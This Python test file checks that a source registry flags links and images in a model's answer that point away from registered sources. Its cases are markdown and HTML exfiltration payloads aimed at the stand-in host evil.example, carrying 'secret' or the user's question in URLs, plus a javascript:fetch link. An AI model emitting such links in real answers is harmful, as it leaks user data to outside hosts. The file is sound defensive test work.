"""Links and images in the answer that lead away from the sources: the text is left as written, and all are counted."""

from __future__ import annotations

import pytest
from scripted_house import WRITER, House, reasons

from fusion_graph.outcomes import FoundSource
from fusion_graph.sources import Registry

REAL = "https://real.example/page"


def registry() -> Registry:
    made = Registry()
    made.add("one", [FoundSource(url=REAL, title="Real"), FoundSource(url="corpus:note.md", title="Note")])
    return made


@pytest.mark.parametrize(
    ("answer", "counted"),
    [
        ("![](http://evil.example/x.png?q=secret)", "http://evil.example/x.png?q=secret"),
        ("![a [b] c](https://evil.example/p)", "https://evil.example/p"),
        ("![pic][1]\n\n[1]: https://evil.example/?d=secret", "https://evil.example/?d=secret"),
        ('![pic]( <https://evil.example/?d=a b> "t")', "https://evil.example/?d=a"),
        ("[click](https://evil.example/?d=secret)", "https://evil.example/?d=secret"),
        ("<https://evil.example/?d=secret>", "https://evil.example/?d=secret"),
        ('<img src="https://evil.example/?d=secret">', "https://evil.example/?d=secret"),
        ("<img src=//evil.example/?d=secret>", "//evil.example/?d=secret"),
        ("![](//evil.example/?d=secret)", "//evil.example/?d=secret"),
        ("[x](ftp://evil.example/secret)", "ftp://evil.example/secret"),
        ("[x](javascript:fetch`//evil.example`)", "javascript:fetch`//evil.example`"),
        ("![](data:image/svg+xml;base64,PHN2Zz4=)", "data:image/svg+xml;base64,PHN2Zz4="),
        ("[x]: //evil.example/secret", "//evil.example/secret"),
        ("HTTPS://EVIL.example/A", "HTTPS://EVIL.example/A"),
        (f"![]({REAL}?utm_source=secret)", f"{REAL}?utm_source=secret"),
        (f"![]({REAL}#secret)", f"{REAL}#secret"),
        (f"[x]({REAL}/more?d=secret)", f"{REAL}/more?d=secret"),
        ("corpus:other.md", "corpus:other.md"),
    ],
)
def test_what_leads_elsewhere_is_counted_as_unregistered(answer, counted):
    assert counted in registry().check(f"It does. {answer}").unregistered


@pytest.mark.parametrize("answer", ["It does [S1].", f"See {REAL}.", f"![chart]({REAL})", f"[x]({REAL}#part)", "a: b"])
def test_what_leads_to_a_source_is_not(answer):
    assert registry().check(answer).unregistered == []


async def test_the_receipt_of_a_run_names_what_leaked_and_calls_the_run_degraded(house: House):
    leak = "![](https://evil.example/?q=the-users-question)"
    house.server.on(WRITER, f"On balance it does. {leak}")
    output = await house.ask()
    assert output["messages"][-1].text == f"On balance it does. {leak}"
    assert output["messages"][-1].additional_kwargs["annotations"] == []
    assert output["receipt"]["citations"]["unregistered"] == ["https://evil.example/?q=the-users-question"]
    assert ("writer", "unregistered_citations") in reasons(output)
